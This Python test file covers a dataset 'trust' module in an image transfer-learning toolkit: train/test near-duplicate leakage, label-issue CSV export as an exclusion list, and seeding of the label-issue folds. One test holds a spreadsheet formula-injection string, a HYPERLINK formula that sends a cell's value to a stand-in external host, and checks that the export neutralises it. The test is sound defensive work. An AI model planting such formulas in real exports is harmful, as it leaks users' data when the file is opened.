"""trust: near-duplicate leakage found from real features; label issues as an exclusion list."""

import csv
import io
import os

import numpy as np
from PIL import Image

from kftransfer.components.core import trust
from kftransfer.components.core.backbones import load_backbone
from kftransfer.components.core.config import EvalConfig
from kftransfer.components.core.exclusions import read_exclusions
from kftransfer.components.core.features import feature_extractor
from kftransfer.components.core.images import image_dataset


def features_of(model, uris: list[str]) -> np.ndarray:
    batches = image_dataset(uris, [0] * len(uris), 224, 8)
    return np.concatenate([model.predict_on_batch(x) for x, _, _ in batches])


def keyed(features: np.ndarray, uris: list[str]) -> trust.KeyedFeatures:
    shas = np.array([f"{i:064x}" for i in range(len(uris))])
    return trust.KeyedFeatures(features, np.arange(len(uris)) % 3, shas, uris)


def test_a_resized_reencoded_copy_in_test_is_reported_as_leaked(shared_dir, tmp_path):
    """Real photos, real ImageNet features: the planted copy and nothing else."""
    folder = os.path.join(shared_dir, "data", "imagenet-samples")
    photos = [os.path.join(folder, name) for name in sorted(os.listdir(folder))]
    with Image.open(photos[4]) as original:
        smaller = original.convert("RGB").resize(
            (original.width * 3 // 4, original.height * 3 // 4)
        )
    buffer = io.BytesIO()
    smaller.save(buffer, "JPEG", quality=60)
    copy = tmp_path / "copy.jpg"
    copy.write_bytes(buffer.getvalue())
    weights = os.path.join(shared_dir, "weights", "mobilenet_1.0_224_imagenet_notop.weights.h5")
    model = feature_extractor(load_backbone("mobilenet", weights, 224), "avg")
    train, test = photos[:12], [str(copy), *photos[12:]]  # the copy's original is in train
    found = trust.find_near_duplicates(
        keyed(features_of(model, train), train), keyed(features_of(model, test), test), EvalConfig()
    )
    assert found["leaked_count"] == 1
    assert [(p["test"], p["train"]) for p in found["leaked"]] == [(str(copy), photos[4])]
    assert found["leaked"][0]["similarity"] >= 0.95
    assert found["within_class_count"] == 0


def test_label_issues_csv_is_an_exclusion_list(tmp_path):
    found = {
        "issues": [
            {"uri": "gs://b/cats/1.jpg", "given": "cats", "suggested": "dogs", "score": 0.01},
            {"uri": "/data/dogs/a,b.jpg", "given": "dogs", "suggested": "cats", "score": 0.2},
        ]
    }
    text = trust.label_issues_csv(found)
    assert text.splitlines()[:2] == [
        "uri,given,suggested,score",
        "gs://b/cats/1.jpg,cats,dogs,0.0100",
    ]
    (tmp_path / "issues.csv").write_text(text)
    assert read_exclusions(str(tmp_path / "issues.csv")) == {
        "gs://b/cats/1.jpg",
        "/data/dogs/a,b.jpg",
    }


def test_label_issues_csv_writes_formula_like_class_names_as_text():
    """Before: a class folder named `=HYPERLINK(...)` became a live formula in the file a
    user opens in a spreadsheet."""
    formula = '=HYPERLINK("http://x.example/?"&A2,"open")'
    issues = [("gs://b/x/1.jpg", formula, "-1"), ("gs://b/y/2.jpg", "a=b", "@home")]
    keys = ("uri", "given", "suggested")
    found = {"issues": [{**dict(zip(keys, issue, strict=True)), "score": 0.5} for issue in issues]}
    rows = list(csv.reader(io.StringIO(trust.label_issues_csv(found))))
    assert rows[1][1:3] == ["'" + formula, "'-1"]
    assert rows[2][1:3] == ["a=b", "'@home"]  # only a first character makes a formula


def test_the_label_issue_folds_follow_the_seed():
    """Before: the folds were always drawn with seed 0, whatever `--seed` said."""
    rng = np.random.default_rng(0)
    labels = np.repeat(np.arange(3), 30)
    features = (rng.normal(size=(90, 8)) + 1.5 * np.eye(3, 8)[labels]).astype(np.float32)
    labels[::9] = (labels[::9] + 1) % 3  # some wrong labels to find
    train = trust.KeyedFeatures(features, labels, np.array([f"{i:064x}" for i in range(90)]),
                                [f"/d/{i}.jpg" for i in range(90)])  # fmt: skip
    found = {
        seed: trust.find_label_issues(train, ["a", "b", "c"], EvalConfig(seed=seed))
        for seed in (0, 1)
    }
    assert found[0]["issues"], "the task has wrong labels to find"
    scores = [{i["uri"]: i["score"] for i in found[seed]["issues"]} for seed in (0, 1)]
    assert scores[0] != scores[1]
    again = trust.find_label_issues(train, ["a", "b", "c"], EvalConfig(seed=1))
    assert again == found[1]
